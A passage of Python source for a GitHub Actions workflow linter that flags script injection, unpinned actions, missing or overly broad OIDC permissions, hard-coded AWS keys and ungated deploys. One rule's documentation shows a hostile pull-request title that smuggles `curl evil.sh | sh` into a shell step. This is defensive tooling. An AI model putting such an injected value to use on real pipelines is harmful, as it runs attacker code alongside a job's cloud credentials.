    pull request's head ref/label, commit messages and author names and emails
    (`head_commit`, `commits`, `merge_group.head_commit`,
    `check_suite.head_commit`), wiki page names, `workflow_run` and check suite
    branches, `workflow_run` titles, release notes (`release.body`, which
    generated notes fill with pull request titles; not the release's name or
    tag, written by who may publish it), `toJSON(github.event)`, and the same fields read from the payload
    file (`$(jq -r '.comment.body' "$GITHUB_EVENT_PATH")`, `cat`, `yq`, a
    python or node program). Context names are matched ignoring case and
    in either form (`github.event['comment']['body']`); `${{ env.X }}` counts
    when X is set from such text, since it pastes the same text. So do the
    values that carry such text on: a step output (`steps.ID.outputs.N`)
    written to `$GITHUB_OUTPUT` from it (as an expression, or through an env
    variable, `$GITHUB_HEAD_REF` or a shell variable derived from one, e.g.
    `X=$(sed ... <<<"$BODY")`; a later assignment made only on a condition,
    `if [ -z "$X" ]; then X=none; fi`, `[ -z "$X" ] && X=none`, leaves it
    the attacker's, so does `X=${X:-none}`, unless it runs when X fails a
    check only letters, digits, `.`, `_` and `-` pass (`if ! [[ "$X" =~
    ^[0-9]{1,3}$ ]]; then X=30; fi`); not a count or checksum of it,
    even cut down: `$(printf %s "$MSG" | sha256sum | cut -c1-16)`, nor text
    whose last filter that may add characters keeps only letters, digits,
    `.`, `_` and `-`: `tr -dc 'a-z0-9-'`, `tr -c 'a-z0-9' '-'`, or `sed -E
    's/[^a-z0-9]+/-/g'` on every line, then only filters that add none,
    `cut -c1-28`, `sed 's/^-*//'`), an env
    variable an earlier step writes to `$GITHUB_ENV` the same way (read as
    `${{ env.X }}`), a file of the artifacts a `workflow_run` job
    downloads from the run it follows (`download-artifact` with `run-id: ${{
    github.event.workflow_run.id }}`) read into such a value
    (`$(cat pr/branch)`, `$(<pr/branch)`, `jq`, `head`...; not when cut down to
    letters, digits, `.`, `_` and `-` the same way, `| tr -dc 'a-z0-9-'`), when that run may be a
    pull request's: its workflow files were the pull request's own (unless
    every workflow it follows is in the repository and none runs on
    `pull_request`, or the job's `if:` keeps it to another event), an output an
    `actions/github-script` step sets from a title, body, head ref or label,
    commit message or author of what it reads
    (`core.setOutput('ref', data.head.ref)`, or what it returns for
    `result`; any value it may give counts: `pr ? pr.title : ''`, `pr?.title
    ?? ''`, `pr && pr.title || 'untitled'`; also through the script's variables and functions derived
    from such text, `const tag = field('Tag')`, unless it makes a number or
    a truth value of it, or keeps it to the script's own literals:
    `['small', 'large'].includes(x) ? x : 'small'`, or `SIZES.includes(x) ?
    x : 'small'` with `const SIZES = ['small', 'large']` never changed) or exports (`core.exportVariable('X', ...)`, read
    as `${{ env.X }}`), a job output
    mapped from such a step output (`needs.J.outputs.N`), a matrix value
    (`matrix.N`) the job's `strategy.matrix` fills from such text (`service:
    ${{ fromJSON(needs.parse.outputs.services) }}`), and an input of a
    reusable workflow (`inputs.N`) that a calling job in the repository fills
    with such text (the message names the caller). Each script line that
    pastes such text is reported once; a local composite action's step that
    pastes it in its own script is reported in the action's file (so is one
    that pastes an input its caller fills with such text, at the line that
    expands the input). Expressions
    passed through `env:` and read by the shell as `"$VAR"` are safe and not
    reported, and so are expressions whose value is only true or false
    (`contains(...)`, comparisons) or one of their own literals
    (`startsWith(MSG, 'hotfix') && 'fast' || 'canary'`), or a field of other
    events' payloads where the job's (or step's) `if:` and triggers keep it to
    events without it (`github.event.head_commit.message` in a job run only on
    `schedule`: empty). `workflow_dispatch` inputs (written by
    people with write access) are not reported.

    ## Why is this bad?
    GitHub pastes the expression's value into the script before the shell runs
    it: a title like `x"; curl evil.sh | sh; "` runs as code, with the AWS
    credentials of the job in its environment.

    ## Example
    ```yaml
    run: echo "Deploying ${{ github.event.pull_request.title }}"
    ```

    Use instead:
    ```yaml
    env:
      TITLE: ${{ github.event.pull_request.title }}
    run: echo "Deploying $TITLE"
    ```
    """)

ACTION_UNPINNED = rule(
    "workflow-action-unpinned", "info",
    "A third-party action referenced by a moving tag or branch rather than a full commit SHA.",
    docs="""
    ## What it does
    Reports `uses: OWNER/REPO[/PATH]@REF` (steps and reusable workflow calls)
    where OWNER is not GitHub's own (`actions`, `github`) and REF is not a
    40-character commit SHA. Local actions (`./...`) and `docker://` images are
    not reported.

    ## Why is this bad?
    A tag can be moved by whoever controls the action's repository: the code
    that runs next to your AWS credentials can change without any change in
    your repository (tj-actions/changed-files, March 2025).

    ## Example
    ```yaml
    - uses: aws-actions/configure-aws-credentials@v4
    ```

    Use instead:
    ```yaml
    - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502 # v4
    ```
    """)


# ---------------------------------------------------------------------------


def _workflow(doc):
    return wm.workflow_of(doc)


def _live_jobs(wf):
    return [j for j in wf.jobs.values() if not j.disabled]


def _role_text(ru):
    r = ru.role_to_assume
    return f"'{r}'" if isinstance(r, str) else "a role"


def _job_key(job):
    return job.path


# --- permissions ------------------------------------------------------------


def _aws_hosted_runner(job) -> bool:
    """Does the job run on an AWS CodeBuild-hosted runner (`runs-on:
    codebuild-PROJECT-${{ github.run_id }}-...`)? Its build's service role
    gives it credentials, with which configure-aws-credentials assumes the
    role (sts:AssumeRole) when there is no OIDC token to ask for."""
    return any(x.startswith("codebuild-") for x in wm.runner_labels(job))


@check(kinds=("workflow",), rules=(ID_TOKEN_MISSING.id, ID_TOKEN_TOO_BROAD.id))
def id_token(doc, ctx):
    wf = _workflow(doc)
    for job in _live_jobs(wf):
        rows = job.matrix_rows(ctx.config.github)
        oidc = [ru for ru in job.role_uses()
                if _needs_token(job, ru) and _without_keys(job, ru.step, rows)]
        if not oidc or job.id_token_write or _aws_hosted_runner(job):
            continue
        if job.permissions_source is None and _only_called(wf, job):
            continue  # inherits the caller's permissions
        ru = oidc[0]
        if job.permissions_source == "job":
            where, path = "the job's permissions block", job.permissions_path
        elif job.permissions_source == "workflow":
            where, path = "the workflow's permissions block (the job has none)", \
                job.permissions_path
        else:
            where, path = "GitHub's default token permissions (no permissions block)", \
                job.path
        yield Problem(ID_TOKEN_MISSING.id, path,
                      f"job '{job.id}' assumes {_role_text(ru)} through OIDC but {where} "
                      "does not grant `id-token: write`: no OIDC token is issued and "
                      + ("the script's `assume-role-with-web-identity` has no token"
                         if ru.line is not None else
                         "the step fetching it for the web identity token file fails"
                         if not ru.oidc or wm.fetches_token(ru.step)
                         else "configure-aws-credentials fails"),
                      help="add `permissions: {id-token: write, contents: read}` to the job",
                      key=True)
    for job in _live_jobs(wf):
        if job.uses is None or job.id_token_write:
            continue
        if job.permissions_source is None and _only_called(wf, job):
            continue
        users = _called_role_uses(job, ctx) or []
        path = job.permissions_path if job.permissions_source == "job" else job.path
        if users:
            called, ru = users[0]
            how = "assumes a role" if ru.step is not None else \
                "hands another repository's workflow a role to assume"
            yield Problem(ID_TOKEN_MISSING.id, path,
                          f"job '{job.id}' calls {job.uses}, whose job '{called.id}' {how} "
                          "through OIDC, but does not grant `id-token: write`: a called "
                          "workflow gets no more permissions than its caller",
                          help="add `id-token: write` to the calling job's permissions",
                          key=True)
        elif _handed_remote_role(job) is not None:
            yield Problem(ID_TOKEN_MISSING.id, path,
                          f"job '{job.id}' calls {job.uses} with `{_role_input(job)}` and no "
                          "AWS keys, but does not grant `id-token: write`: a called workflow "
                          "gets no more permissions than its caller, so it cannot ask for the "
                          "OIDC token that role needs",
                          help="add `id-token: write` to the calling job's permissions",
                          key=True)
    if grants_workflow_id_token(wf):
        idle = [j.id for j in _live_jobs(wf) if j.permissions_source == "workflow"
                and not _assumes_a_role(j, ctx)]
        if idle:
            perms = wf.data.get("permissions")
            path = ("permissions", "id-token") if isinstance(perms, dict) else ("permissions",)
            own = any(j.permissions_source != "workflow" for j in _live_jobs(wf))
            yield Problem(ID_TOKEN_TOO_BROAD.id, path,
                          "`id-token: write` is granted to every job"
                          + (" without permissions of its own" if own else "") + ", but "
                          + ", ".join(f"'{j}'" for j in idle)
                          + (" does not assume an AWS role: it can mint OIDC tokens it does"
                             if len(idle) == 1 else
                             " do not assume an AWS role: they can mint OIDC tokens they do")
                          + " not need",
                          help="grant `id-token: write` only in the permissions of the jobs "
                               "that assume a role", key=True)


_ROLE_VALUE = lazy_re(r"^\s*(?:arn:[\w-]+:iam::[^\s:]*:role/\S+|\$\{\{.*\}\})\s*$")


def _role_input(job) -> Optional[str]:
    """The input of a call to another repository's reusable workflow that
    hands it a role to assume (`role-to-assume: arn:...:role/x`, `aws-role:
    ${{ vars.ROLE }}`), or None."""
    handed = _handed_role(job)
    return handed.path[-1] if handed is not None else None


def _handed_role(job) -> Optional["wm.RoleUse"]:
    """The role a job hands the reusable workflow it calls, in an input or a
    secret (`_role_input`), as a role use of the job (no step of its own)."""
    data = job.data if isinstance(job.data, dict) else {}
    for part in ("with", "secrets"):  # (a role ARN kept in a secret is handed as one)
        given = data.get(part)
        for key, value in (given.items() if isinstance(given, dict) else ()):
            if isinstance(key, str) and "role" in key.lower() and isinstance(value, str) \
                    and _ROLE_VALUE.match(value) \
                    and ("${{" not in value or "role" in value.lower()):
                return wm.RoleUse(step=None, role_to_assume=value, path=job.path + (part, key))
    return None


def _handed_remote_role(job) -> Optional["wm.RoleUse"]:
    """The role a job hands another repository's reusable workflow it calls
    (`_handed_role`) without secrets that may be AWS keys: that workflow
    assumes it through OIDC, with no more permissions than the job's."""
    if job.uses is None or job.uses.startswith("./") or _passes_keys(job):
        return None
    return _handed_role(job)


def _passes_keys(job) -> bool:
    """Does a calling job hand its called workflow secrets that may be AWS
    keys (`secrets: inherit`, or one named like a key)?"""
    secrets = job.data.get("secrets") if isinstance(job.data, dict) else None
    if isinstance(secrets, dict):
        names = [str(k) for k in secrets] + [n for v in secrets.values()
                                             for n in re.findall(r"secrets\.([\w-]+)", str(v))]
        # (a role's ARN is no key: `aws-role-arn: ${{ secrets.AWS_ROLE_ARN }}`)
        return any(re.search(r"AWS|ACCESS|KEY|CRED", n, re.I)
                   and not re.search(r"ROLE|ARN", n, re.I) for n in names)
    return secrets is not None


def _without_keys(job, step, rows) -> bool:
    """Does the step run with no access keys at hand in some matrix row? Its
    `if:` and those of the key steps before it are read per row, as GitHub
    evaluates them (`if: matrix.auth == 'keys'` gives keys to one row only);
    a step whose `if:` is surely false (`${{ false }}`) never runs."""
    return any(wm.step_if(step, job, row) is not False and not _keys_at_hand(job, step, row)
               for row in rows)


def _keys_at_hand(job, step, row=None) -> bool:
    """Are access keys already in the step's environment in matrix `row`
    (`AWS_ACCESS_KEY_ID` in its, the job's or the workflow's `env`, or written
    to `$GITHUB_ENV`), or given to an earlier configure-aws-credentials step
    of the job that is not off in that row (it exports them)? Without an OIDC
    token the action then assumes the role with those keys
    (`sts:AssumeRole`), not through OIDC; unless the step first unsets them
    (`unset-current-credentials: true`)."""
    if step.uses == wm.CONFIGURE_CREDENTIALS \
            and wm._truthy(wm.credentials_input(step, job, "unset-current-credentials")):
        return False
    v = wm.with_row(wm._env_value("AWS_ACCESS_KEY_ID", job, step), row)
    if v is not None and str(v).strip():
        return True
    for st in job.steps:
        if st is step:
            break
        if st.uses == wm.CONFIGURE_CREDENTIALS \
                and str(wm.with_row(st.with_.get("aws-access-key-id") or "", row)).strip() \
                and wm.step_if(st, job, row) is not False:
            return True
    return False


def _only_called(wf, job) -> bool:
    """Does the job run only when another workflow calls this one (and so with
    its caller's permissions)? A `push` or other trigger beside `workflow_call`
    runs it with the default token too."""
    events = wm.job_events(wf, job)
    return "workflow_call" in events and events <= {"workflow_call"}


def grants_workflow_id_token(wf):
    return wm.grants_id_token(wf.permissions)


# --- static keys --------------------------------------------------------------

_KEY_INPUTS = ("aws-access-key-id", "aws-secret-access-key")
# (and the other names the AWS SDKs read when those are not set: Go v2's
# credAccessEnvKeys/credSecretEnvKeys, Java's)
_KEY_ENV = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY", "AWS_SECRET_KEY")
_SECRET_OR_VAR = lazy_re(r"\b(secrets|vars)\s*(?:\.\s*([A-Za-z0-9_-]+)|\[)")
_RUNTIME = lazy_re(r"\b(steps|needs|job|runner)\.")


def _long_lived(value, job, step):
    """How a key value is long-lived ('secrets.X', 'a literal'), or None."""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        value = str(value)
    if not isinstance(value, str) or not value.strip():
        return None
    v = wm.expand(value, job, step)
    m = _SECRET_OR_VAR.search(v)
    if m:
        return f"{m.group(1)}.{m.group(2)}" if m.group(2) else m.group(1)
    if "${{" in v or _RUNTIME.search(v) or "$" in v:
        return None
    if len(v.strip()) < 16:  # an access key id is 16 to 128 characters, a secret 40:
        return None          # `test` for LocalStack or moto is no IAM key
    if _KEY_ID_SHAPE.match(v.strip()) and not v.strip().startswith("AKIA"):
        return None  # an id that is no IAM user's: ASIA (temporary), LSIA (LocalStack)
    return "a literal"


_KEY_ID_SHAPE = lazy_re(r"^[A-Z0-9]{20}$")


def _first_key(container, names):
    for n in names:
        if n in container:
            return n
    return None


@check(kinds=("workflow",), rules=(STATIC_KEYS.id,))
def static_keys(doc, ctx):
    seen = set()  # a caller's input read both as given and inside its composite action
    for p in _static_keys(doc):
        where = (p.doc and p.doc.file, p.path, p.span)
        if where not in seen:
            seen.add(where)
            yield p


def _static_keys(doc):
    wf = _workflow(doc)
    # workflow env
    yield from _env_keys(wf.env, ("env",), None, None, "the workflow env")
    for job in _live_jobs(wf):
        yield from _env_keys(job.env, job.path + ("env",), job, None, f"job '{job.id}' env")
        for path, where, box in _containers(job):  # each container gets its env as is
            if isinstance(box.get("env"), dict):
                yield from _env_keys(box["env"], job.path + path + ("env",), job, None,
                                     f"job '{job.id}' {where} env")
        if isinstance(job.secrets, dict):  # its keys in whatever case and separator
            name = next((k for k in job.secrets if isinstance(k, str)
                         and k.upper().replace("-", "_") in _KEY_ENV), None)
            src = _long_lived(job.secrets.get(name), job, None) if name else None
            if src:
                yield Problem(STATIC_KEYS.id, job.path + ("secrets", name),
                              f"job '{job.id}' passes a long-lived access key ({src}) to a "
                              "reusable workflow", help=_KEYS_HELP, key=True)
        for st in job.steps:
            # the inputs in whatever case and separator (`AWS_ACCESS_KEY_ID` too)
            inputs = {k.lower().replace("_", "-"): k for k in st.with_ if isinstance(k, str)}
            name = next((inputs[n] for n in _KEY_INPUTS if n in inputs), None)
            if name:
                src = _long_lived(st.with_.get(name), job, st)
                other = inputs.get("aws-secret-access-key") \
                    if name == inputs.get("aws-access-key-id") else None
                if src is None and other:
                    src = _long_lived(st.with_.get(other), job, st)
            else:  # under another name (`access_key_id`, docker/login-action's `username`)
                name, src = _key_secret_input(st.with_, job, st)
            if name and src:
                yield Problem(STATIC_KEYS.id, wm.input_path(st, name),
                              f"`{name}` takes a long-lived IAM user key ({src}): it "
                              "never expires and works wherever it leaks",
                              help=_KEYS_HELP, key=True)
            yield from _env_keys(st.env, st.path + ("env",), job, st, "the step env")
            for c in wm.commands(st):
                src = _script_key(c, job, st)
                if src:
                    flag = next((f for f in _KEY_FLAGS if shell.option(c, f)), None) or \
                        next((f"{name}=" for name, _ in _backend_keys(c)), None)
                    yield Problem(STATIC_KEYS.id, st.run_path,
                                  f"the script sets a long-lived access key ({src})",
                                  help=_KEYS_HELP, span=wm.script_span(doc, st, c.line, flag))
                    break


def _containers(job) -> list:
    """(path in the job, what it is, its mapping) of the job's container and
    of each of its service containers (`services.<name>`)."""
    data = job.data if isinstance(job.data, dict) else {}
    services = data.get("services") if isinstance(data.get("services"), dict) else {}
    boxes = [(("container",), "container", data.get("container"))] + [
        (("services", n), f"service container '{n}'", box) for n, box in services.items()
        if isinstance(n, str)]
    return [(path, where, box) for path, where, box in boxes if isinstance(box, dict)]


_KEY_SECRET_NAME = lazy_re(r"AWS_(?:ACCESS_KEY_ID|SECRET_ACCESS_KEY)")


def _key_secret_input(inputs, job, step):
    """(input, 'secrets.X') of the first input given a secret named as an access
    key (`AWS_ACCESS_KEY_ID`, `PROD_AWS_SECRET_ACCESS_KEY`, ...), whatever the
    input is called; (None, None) when there is none."""
    for k, v in inputs.items():
        if not isinstance(k, str) or not isinstance(v, str) or "secrets" not in v:
            continue
        for m in _SECRET_OR_VAR.finditer(wm.expand(v, job, step)):
            if m.group(1) == "secrets" and m.group(2) \
                    and _KEY_SECRET_NAME.search(m.group(2).upper().replace("-", "_")):
                return k, f"secrets.{m.group(2)}"
    return None, None


_KEYS_HELP = ("assume a role through OIDC: `permissions: {id-token: write}` and "
              "configure-aws-credentials with `role-to-assume`; then delete the IAM user key")


def _env_keys(env, path, job, step, where):
    name = _first_key(env, _KEY_ENV)
    if not name:  # under another name (`TF_VAR_access_key`), a secret named as a key
        name, src = _key_secret_input(env, job, step)
    else:
        src = _long_lived(env.get(name), job, step)
        if src is None:
            other = _first_key(env, tuple(k for k in _KEY_ENV if k != name))
            src = _long_lived(env.get(other), job, step) if other else None
    if src:
        span = wm.composite_span(step, ("env", name)) if step is not None else None
        yield Problem(STATIC_KEYS.id, path + (name,),
                      f"{where} sets {name} from {src}: a long-lived IAM user key",
                      help=_KEYS_HELP, key=True, span=span)


_KEY_LITERAL = lazy_re(r"^(?:AKIA[A-Z0-9]{16}|[A-Za-z0-9/+=]{40})$")
_SHELL_VAR = lazy_re(r"^\$\{?([A-Za-z_]\w*)\}?$")
_KEY_ASSIGN = lazy_re(r"^(AWS_ACCESS_KEY_ID|AWS_SECRET_ACCESS_KEY)=(.*)$", re.S)


def _script_key(c, job, step):
    """How a script command sets a long-lived key (`aws configure set`, an
    assignment or export, a line written to $GITHUB_ENV), or None."""
    if c.argv[:3] == ["aws", "configure", "set"] and len(c.argv) > 4 \
            and c.argv[3].lower() in ("aws_access_key_id", "aws_secret_access_key"):
        return _script_value(c.argv[4], job, step)
    if c.argv[:3] == ["aws", "configure", "import"]:
        # the console's access key CSV: an IAM user's key, whatever holds the text
        given = shell.option(c, "--csv")
        return _script_value(given, job, step) or (
            f"the credentials CSV `{given}`" if given else "a credentials CSV")
    for k in _KEY_ENV:
        v = c.assigns.get(k)
        if v is not None:
            src = _script_value(v, job, step)
            if src:
                return src
    if any("-access-key" in a or "-secret-key" in a for a in c.argv):  # a tool given the key
        for flag in _KEY_FLAGS:
            src = _script_value(shell.option(c, flag), job, step)
            if src:
                return src
    for _, value in _backend_keys(c):
        src = _script_value(value, job, step)
        if src:
            return src
    argv = c.argv[1:] if c.argv[:1] == ["npx"] else c.argv
    if argv[:1] in (["serverless"], ["sls"]) and argv[1:3] == ["config", "credentials"]:
        # the Serverless CLI writes --key/--secret to ~/.aws/credentials
        for flag in ("--key", "-k", "--secret", "-s"):
            src = _script_value(shell.option(c, flag), job, step)
            if src:
                return src
    if c.argv[:1] == ["docker"]:  # `docker run -e AWS_ACCESS_KEY_ID=...`, `--env=...`
        for i, word in enumerate(c.argv[1:], 1):
            given = c.argv[i + 1] if word in ("-e", "--env") and i + 1 < len(c.argv) else \
                word.split("=", 1)[1] if word.startswith("--env=") else None
            m = _KEY_ASSIGN.match(given.strip()) if given else None
            src = _script_value(m.group(2), job, step) if m else None
            if src:
                return src
    if c.argv[:1] in (["echo"], ["printf"]):  # `echo "AWS_ACCESS_KEY_ID=..." >> $GITHUB_ENV`
        for word in c.argv[1:]:
            m = _KEY_ASSIGN.match(word.strip())
            src = _script_value(m.group(2), job, step) if m else None
            if src:
                return src
    # a credentials file: `aws_access_key_id = ...` lines (a here-document or echo)
    writes = c.argv[:1] in (["cat"], ["echo"], ["printf"], ["tee"])
    for line in (c.heredoc or "").splitlines() + [" ".join(c.argv[1:])] if writes else ():
        m = _INI_KEY.match(line)
        src = _script_value(m.group(1), job, step) if m else None
        if src:
            return src
    if writes and (any(_CREDENTIALS_FILE.search(t) for _, t in c.redirects) or (
            c.argv[:1] == ["printf"] and len(c.argv) > 2 and _INI_KEY_NAME.search(c.argv[1]))):
        # the whole file from a secret (`echo "$CREDS" > ~/.aws/credentials`), or its
        # key lines from a printf format filled with secrets
        for word in c.argv[1:]:
            src = _script_value(word, job, step)
            if src and src != "a literal":
                return src
    return None


_BACKEND_KEY = lazy_re(r"^\s*(access_key|secret_key)\s*=(.*)$", re.S)


def _backend_keys(c) -> list:
    """(setting, value) of the S3 backend's static keys given to `terraform
    init` (or `tofu init`): `-backend-config="access_key=..."`, `secret_key`."""
    if not c.argv or c.argv[0].rsplit("/", 1)[-1] not in ("terraform", "tofu"):
        return []
    settings = shell.option_values(c.argv, ("-backend-config", "--backend-config"))
    return [(m.group(1), m.group(2)) for m in map(_BACKEND_KEY.match, settings) if m]


_KEY_FLAGS = ("--access-key-id", "--secret-access-key", "--aws-access-key-id",
              "--aws-secret-access-key", "--aws-access-key", "--aws-secret-key")
_CREDENTIALS_FILE = lazy_re(r"(?:^|/)\.aws/credentials$")
_INI_KEY_NAME = lazy_re(r"aws_(?:access_key_id|secret_access_key)\s*=", re.I)


_INI_KEY = lazy_re(r"^\s*['\"]?aws_(?:access_key_id|secret_access_key)\s*=\s*(.+?)['\"]?\s*$",
                   re.I)


def _script_value(value, job, step, depth: int = 0):
    """`_long_lived` of a value in a script: `$NAME` read through the env blocks,
    a literal only when it has the shape of a key (`test` for a local emulator
    is not one)."""
    if not isinstance(value, str):
        return None
    v = value.strip()
    m = _SHELL_VAR.match(v)
    if m:
        named = wm._env_value(m.group(1), job, step)
        return _script_value(named, job, step, depth + 1) if depth < 4 else None
    if "${{" in v:
        return _long_lived(v, job, step)
    return "a literal" if _KEY_LITERAL.match(v) else None


# --- deploy gates -----------------------------------------------------------


@check(kinds=("workflow",), rules=(DEPLOY_NO_ENVIRONMENT.id, DEPLOY_NO_TEST_GATE.id))
def deploy_gates(doc, ctx):
    wf = _workflow(doc)
    for job in _live_jobs(wf):
        if job.uses:
            yield from _called_without_environment(job, ctx)
        deploys = job.deploys()
        if not deploys:
            continue
        what = _deploy_words(deploys)
        if job.environment is None:
            yield Problem(DEPLOY_NO_ENVIRONMENT.id, job.path,
                          f"job '{job.id}' deploys ({what}) without an `environment`: no "
                          "reviewers, no branch rule, and the OIDC sub cannot tell this deploy "
                          "from any other run of the branch",
                          help="add `environment: production` (with protection rules) to the job",
                          key=True)
        elif _empty_environment_runs(wf, job, ctx.config.github):
            when = _empty_environment_runs(wf, job, ctx.config.github)
            yield Problem(DEPLOY_NO_ENVIRONMENT.id, job.environment_path or job.path,
                          f"job '{job.id}' deploys ({what}) with `environment: "
                          f"{job.environment}`, empty in runs where {when}: those deploy with "
                          "no environment, no reviewers, and the branch's OIDC sub",
                          help="give every run an environment (`... || 'staging'`), or keep the "
                               "job off the runs that have none with its `if:`")
        if not _test_gated(wf, job, deploys, ctx):
            how, fix = _why_untested(wf, job, deploys, ctx)
            yield Problem(DEPLOY_NO_TEST_GATE.id, job.path,
                          f"job '{job.id}' deploys ({what}) {how}", help=fix, key=True)
    yield from _calls_untested_deploys(wf, ctx)


_SHIPS = "a commit that fails its tests still ships"


def _why_untested(wf, job, deploys, ctx):
    """Why a deploying job that no test gates ships untested, as the rest of the
    message after "job 'J' deploys (...)", and the fix."""
    if _runs_whatever_needs_give(job, wf) and _test_gated(wf, job, deploys, ctx, read_if=False):
        return (f"even when the jobs it `needs` fail (`if: {job.if_}`): {_SHIPS}",
                "drop always()/failure()/!cancelled() from the job's `if:`, "
                "or test `needs.test.result == 'success'` in it")
    if "workflow_run" in wm.job_events(wf, job):
        if _after_untested_workflows(wf, ctx):
            names = wf.triggers["workflow_run"]["workflows"]
            names = ", ".join(f"'{n}'" for n in ([names] if isinstance(names, str) else names))
            return (f"after workflow {names} (`workflow_run`), which runs no tests: its "
                    f"success says nothing of them, and {_SHIPS}",
                    "run it after the workflow that runs the tests (its `name:`), "
                    "or add a job that runs them")
        return ("after another workflow (`workflow_run`) whatever it concluded: a run whose "
                "tests failed still ships",
                "add `if: github.event.workflow_run.conclusion == 'success'` to the job")
    if _test_steps(job, deploys) and (untested := _events_without_tests(wf, job, deploys)):
        shown = ", ".join(f"`{e}`" for e in untested)
        return (f"on {shown}, where its test steps do not run (their `if:` keeps them off): "
                "a run of that event ships untested",
                "run the tests on every event the job deploys on, or keep "
                "the deploy off the events they skip")
    if (ignored := _tests_ignored(wf, job, deploys)) is not None:
        how, fix = ignored
        return f"but the tests before it {how}: {_SHIPS}", fix
    return (f"but no job it `needs` runs tests: {_SHIPS}",
            "add `needs: test` (a job that runs the test suite)")


def _calls_untested_deploys(wf, ctx):
    """A job that calls a local reusable workflow whose deploying jobs its
    callers must gate (none of their own tests or needs does), and that needs
    no job that runs tests."""
    for job in _live_jobs(wf):
        callee = _local_workflow(job, ctx) if job.uses else None
        if callee is None or _test_gated(wf, job, [], ctx):
            continue
        inputs = wm.caller_inputs(callee, job.data)
        for called in _live_jobs(callee):
            deploys = called.deploys()
            if deploys and not _test_gated(callee, called, deploys, ctx, callers_gate=False,
                                           inputs=inputs):
                always = _runs_whatever_needs_give(job, wf)
                yield Problem(DEPLOY_NO_TEST_GATE.id, job.path,
                              f"job '{job.id}' calls {job.uses}, whose job '{called.id}' "
                              f"deploys ({_deploy_words(deploys)}), but "
                              + (f"runs even when the jobs it `needs` fail (`if: {job.if_}`)"
                                 if always else "no job it `needs` runs tests")
                              + ": a commit that fails its tests still ships",
                              help="add `needs: test` (a job that runs the test suite) to the "
                                   "calling job", key=True)
                break


def _deploy_words(deploys):
    seen = []
    for d in deploys:
        w = d.kind if d.kind in wm.DEPLOY_TOOLS else \
            {"ecs-deploy-action": "amazon-ecs-deploy-task-definition",
             "codedeploy": "CodeDeploy"}.get(d.kind, f"aws ecs {d.kind}")
        if w not in seen:
            seen.append(w)
    return ", ".join(seen)


def _test_gated(wf, job, deploys, ctx, read_if=True, callers_gate=True, inputs=None):
    """Do tests that fail stop the job before its deploys: a test step before
    them, or a job it needs that runs tests? With `callers_gate`, a job that
    runs only when called is gated by its callers; `inputs`: those of the
    call that runs the workflow (`wm.caller_inputs`), when one does."""
    if callers_gate and _gated_by_callers(wf, job) and not _after_untested_workflows(wf, ctx):
        return True
    if _test_steps(job, deploys) and not _events_without_tests(wf, job, deploys):
        return True
    if read_if and _runs_whatever_needs_give(job, wf, inputs):
        # `if: always()`: the tests it needs may fail, it deploys anyway, unless
        # each deploying step's own `if:` requires their success
        return all(isinstance(d.step.if_, str) and _results_gate(wf, d.step.if_)
                   for d in deploys) if deploys else False
    for jid in wm.needs_closure(wf, job.id):
        other = wf.jobs[jid]
        if _job_gates(other):
            return True
        if other.uses is not None:
            verdict = _reusable_runs_tests(other, ctx, wm.job_events(wf, job))
            if verdict is not False:
                return True
    if any(n not in wf.jobs for n in job.needs):
        return True  # a `needs` we cannot see: don't guess
    return False


_RUNS_ANYWAY = lazy_re(r"\balways\s*\(\s*\)|\bfailure\s*\(\s*\)|!\s*cancelled\s*\(\s*\)",
                       re.I)


def _gated_by_callers(wf, job) -> bool:
    """Does the job run only when called (its callers' `needs` gate it), or
    after another workflow (`workflow_run`) succeeded, not on a trigger of its
    own (a dispatch)? GitHub starts a `workflow_run` workflow whatever the
    other one concluded: only an `if:` on `github.event.workflow_run.conclusion`
    (the job's or a job's it needs) keeps a failed run from deploying."""
    events = wm.job_events(wf, job)
    if not events or not events <= {"workflow_call", "workflow_run"}:
        return False
    if "workflow_run" not in events:
        return True
    return any(isinstance(j.if_, str) and _UPSTREAM_SUCCEEDED.search(j.if_)
               for j in [job] + [wf.jobs[n] for n in wm.needs_closure(wf, job.id)
                                 if n in wf.jobs]) or _upstream_guard_step(job)


def _after_untested_workflows(wf, ctx) -> bool:
    """Does the workflow run after (`workflow_run`) workflows of the
    repository, none of which runs tests? Their success then says nothing of
    the tests."""
    found = _followed_workflows(wf, ctx)
    return bool(found) and not any(_job_gates(j) or j.uses is not None
                                   for w in found.values() for j in w.jobs.values())


def _followed_workflows(wf, ctx) -> Optional[dict]:
    """{name: model} of the workflows a `workflow_run` workflow runs after,
    each found in the repository by its name (GitHub matches `workflows:` by
    name; a workflow without one is named by its path); None when one is not
    found here (or named by a pattern)."""
    spec = wf.triggers.get("workflow_run") if isinstance(wf.triggers, dict) else None
    names = spec.get("workflows") if isinstance(spec, dict) else None
    names = [names] if isinstance(names, str) else names
    if not isinstance(names, list) or not names or not all(isinstance(n, str) for n in names) \
            or ctx is None or not ctx.repo_root:
        return None
    found = {}
    for file, _, data in wm.repository_workflows(ctx.repo_root):
        if isinstance(data, dict):
            name = data.get("name")
            name = name if isinstance(name, str) else f".github/workflows/{file}"
            if name in names:  # (only the workflows it runs after are modelled)
                found[name] = wm.read_workflow(data)
    return found if all(n in found for n in names) else None


_UPSTREAM_FAILED = lazy_re(
    r"github\.event\.workflow_run\.conclusion\s*!=\s*['\"]success['\"]|"
    r"['\"]success['\"]\s*!=\s*github\.event\.workflow_run\.conclusion", re.I)


def _upstream_guard_step(job) -> bool:
    """A step before the job's deploys that fails it whenever the other
    workflow did not succeed: `if: ...conclusion != 'success' || ...` and a
    script that ends in `exit 1` (or `false`)."""
    first = min((d.step.index for d in job.deploys()), default=len(job.steps))
    return any(_fails_job_on(st, _UPSTREAM_FAILED) for st in job.steps[:first])


def _fails_job_on(st, test) -> bool:
    """Does step `st` fail the job when one `||` alternative of its `if:`
    matches `test` (a compiled pattern): it goes on no error and its script
    ends in `exit 1` (or `false`)?"""
    if not isinstance(st.if_, str) or _continues_on_error(st):
        return False
    either = [wm.strip_parens(e) for e in
              wm.split_top(wm.strip_parens(wm.if_expression(st.if_)), "||")]
    return any(test.fullmatch(e) for e in either) and _ends_in_failure(st)


def _ends_in_failure(step) -> bool:
    """Does the step's script end in `exit N` (N not 0) or `false`, failing the job?"""
    last = next((c for c in reversed(wm.commands(step)) if not c.in_substitution
                 and not c.function), None)
    return last is not None and (last.argv == ["false"] or (
